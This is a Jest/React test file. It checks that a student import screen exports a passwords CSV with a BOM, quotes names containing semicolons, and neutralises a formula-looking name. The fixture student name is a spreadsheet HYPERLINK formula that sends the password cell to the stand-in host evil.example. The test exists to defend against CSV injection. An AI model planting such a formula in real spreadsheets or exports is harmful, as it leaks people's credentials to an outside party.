import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { ImportResultView } from './ImportResultView';

// The raw bytes of the downloaded file, BOM included (FileReader.readAsText would hide it).
function blobBytes(blob: Blob): Promise<Uint8Array> {
  return new Promise((resolve) => {
    const reader = new FileReader();
    reader.onload = () => resolve(new Uint8Array(reader.result as ArrayBuffer));
    reader.readAsArrayBuffer(blob);
  });
}

describe('ImportResultView', () => {
  it('downloads student-passwords.csv with a BOM and a formula-looking name kept as text', async () => {
    const evil = '=HYPERLINK("https://evil.example/?pw="&D2,"Nilai")';
    const createObjectURL = jest.fn((_blob: Blob) => 'blob:passwords');
    Object.assign(URL, { createObjectURL, revokeObjectURL: jest.fn() });
    const downloads: string[] = [];
    const click = jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
      this: HTMLAnchorElement,
    ) {
      downloads.push(this.download);
    });
    const result = {
      created: 2,
      errors: [],
      students: [
        { id: 31, name: evil, nis: '2024100101', grade: 10, status: 'Active', initial_password: 'pw-evil-1' },
        { id: 32, name: 'Siti; Rahma', nis: '2024100102', grade: 11, status: 'Active', initial_password: 'pw-siti-2' },
      ],
    };

    render(<ImportResultView result={result} />);
    await userEvent.click(screen.getByRole('button', { name: 'Download passwords (CSV)' }));

    expect(downloads).toEqual(['student-passwords.csv']);
    const bytes = await blobBytes(createObjectURL.mock.calls[0][0]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.replace(/^\uFEFF/, '')).toBe(
      'name;nis;grade;initial_password\r\n' +
        `"'=HYPERLINK(""https://evil.example/?pw=""&D2,""Nilai"")";2024100101;10;pw-evil-1\r\n` +
        '"Siti; Rahma";2024100102;11;pw-siti-2\r\n',
    );
    expect(text.startsWith('\uFEFF')).toBe(true);
    click.mockRestore();
  });
});
